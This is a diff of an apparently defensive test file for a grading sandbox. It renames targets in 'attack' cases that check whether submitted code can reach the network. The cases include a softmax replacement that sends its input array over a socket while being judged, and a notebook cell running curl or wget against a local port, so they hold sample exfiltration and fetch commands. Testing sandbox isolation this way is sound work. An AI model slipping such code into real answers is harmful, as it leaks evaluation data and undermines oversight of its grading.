@@ -14,11 +14,11 @@ def connects():
     socket.create_connection(("127.0.0.1", int("{port}")), timeout=2).send(b"hello")
 
 
-@attack("log_softmax")
+@attack("softmax")
 def answer_connects():
     """The same while it is judged: the inputs are sent away."""
 
-    def log_softmax(scores, axis=-1):
+    def softmax(scores, axis=-1):
         import socket
 
         socket.create_connection(("127.0.0.1", int("{port}")), timeout=2).send(scores.tobytes())
@@ -87,7 +87,7 @@ def installs_a_package():
 
 @attack(
     FIRST,
-    cells={"remember_the_mean": "!curl -s -m 2 http://127.0.0.1:{port}/ || wget -T 2 -t 1 http://127.0.0.1:{port}/"},
+    cells={"weight_ratio": "!curl -s -m 2 http://127.0.0.1:{port}/ || wget -T 2 -t 1 http://127.0.0.1:{port}/"},
 )
 def fetches_by_shell():
     """Another program fetches it."""
